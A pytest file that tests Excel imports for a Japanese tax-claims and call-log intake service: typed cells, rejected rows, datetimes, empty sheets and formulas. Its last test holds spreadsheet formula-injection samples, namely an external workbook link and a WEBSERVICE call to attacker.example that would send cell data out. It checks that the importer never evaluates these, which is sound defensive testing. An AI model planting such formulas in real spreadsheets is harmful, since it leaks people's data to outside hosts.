"""Excel works like CSV."""

from __future__ import annotations

from collections.abc import Callable
from datetime import date, datetime
from pathlib import Path

import pytest
import xlsxwriter

from contact_service.intake.faults import FileRefused
from contact_service.intake.importing import Counts
from tests.intake.conftest import CALL, CLAIM, Import, Query, write_csv

TYPED = {
    **CLAIM, "宛名番号": 10000001, "生年月日": date(1965, 7, 10), "電話番号１": 9012345678,
    "調定年度": 2026, "期別": 3, "通知書番号": 26010000001, "納期限": datetime(2026, 8, 31),
    "調定額": 10000, "未納額": 10000.0, "収入済額": 0,
}  # fmt: skip


def write_xlsx(path: Path, rows: list[list[object]]) -> Path:
    with xlsxwriter.Workbook(str(path)) as book:
        sheet = book.add_worksheet()
        day = book.add_format({"num_format": "yyyy/m/d"})
        for number, cells in enumerate(rows):
            for column, cell in enumerate(cells):
                if isinstance(cell, date):
                    sheet.write_datetime(number, column, cell, day)
                elif isinstance(cell, int | float):
                    sheet.write_number(number, column, cell)
                else:
                    sheet.write_string(number, column, str(cell))
    return path


def test_typed_cells_are_read_as_their_text(
    take: Import, ledger_hash: Callable[[], list[str]], tmp_path: Path
) -> None:
    take("claims", write_csv(tmp_path / "a_20260930.csv", [CLAIM]))
    before = ledger_hash()
    path = write_xlsx(tmp_path / "a_20260930.xlsx", [list(CLAIM), list(TYPED.values())])
    assert take("claims", path).counts == Counts(1, 0, 0, 1, 0, 0)
    assert ledger_hash() == before


def test_rejected_rows_of_a_sheet_become_a_csv(take: Import, query: Query, tmp_path: Path) -> None:
    bad = {**TYPED, "未納額": "未定", "氏名": "𠮷田　誠"}  # no such character in CP932
    cells: list[list[object]] = [list(CLAIM), [], list(TYPED.values()), list(bad.values())]
    report = take("claims", write_xlsx(tmp_path / "a_20260930.xlsx", [*cells, ["合計", 2]]))
    assert report.counts == Counts(3, 1, 0, 0, 1, 1)
    assert [(f.line, f.column, f.value) for f in report.first_faults] == [(4, "未納額", "未定")]
    assert report.rejects is not None
    assert report.rejects.suffix == ".csv"
    content = report.rejects.read_text(encoding="utf-8-sig")
    mended = content.replace("未定", "500").replace("26010000001", "26010000002")
    report.rejects.write_text(mended, encoding="utf-8-sig")
    assert take("claims", report.rejects).counts.accepted == 1
    assert query("SELECT filed_outstanding_yen FROM claim ORDER BY id") == [(10000,), (500,)]


def test_instants_of_a_sheet(take: Import, query: Query, tmp_path: Path) -> None:
    row = {**CALL, "日時": datetime(2026, 9, 1, 9, 10, 57), "内線": 201, "通話秒数": 95}
    with xlsxwriter.Workbook(str(tmp_path / "c.xlsx")) as book:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, list(CALL))
        sheet.write_row(1, 0, list(row.values()))
        sheet.write_datetime(1, 0, row["日時"], book.add_format({"num_format": "yyyy/m/d h:mm:ss"}))
    assert take("calls", tmp_path / "c.xlsx").counts.accepted == 1
    assert query("SELECT started_at::text, extension FROM call") == [
        ("2026-09-01 09:10:57+09", "201")
    ]


def test_an_empty_sheet_is_refused(take: Import, tmp_path: Path) -> None:
    with pytest.raises(FileRefused, match="見出しの行がありません"):
        take("claims", write_xlsx(tmp_path / "a.xlsx", []))


def test_a_formula_is_what_it_last_came_to_and_is_never_reckoned_or_followed(
    take: Import, query: Query, tmp_path: Path
) -> None:
    owed = list(CLAIM).index("未納額")
    rows = [
        ("=A1*1000", 7_000),  # what its author saw
        ("='[https://attacker.example/book.xlsx]Sheet1'!A1", 8_000),
        ('=WEBSERVICE("https://attacker.example/"&B2)', "#VALUE!"),
        ("=1+1", ""),  # nobody has ever seen what it comes to
    ]
    with xlsxwriter.Workbook(str(tmp_path / "a_20260930.xlsx")) as book:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, list(CLAIM))
        for line, (formula, seen) in enumerate(rows, 1):
            cells = {**CLAIM, "宛名番号": f"1000000{line}", "通知書番号": f"2601000000{line}"}
            sheet.write_row(line, 0, list(cells.values()))
            sheet.write_formula(line, owed, formula, None, seen)
    report = take("claims", tmp_path / "a_20260930.xlsx")
    assert (report.counts.accepted, report.counts.rejected) == (2, 2)
    assert query("SELECT filed_outstanding_yen FROM claim ORDER BY id") == [(7_000,), (8_000,)]
    assert [(fault.line, fault.column) for fault in report.first_faults] == [
        (4, "未納額"),
        (5, "未納額"),
    ]
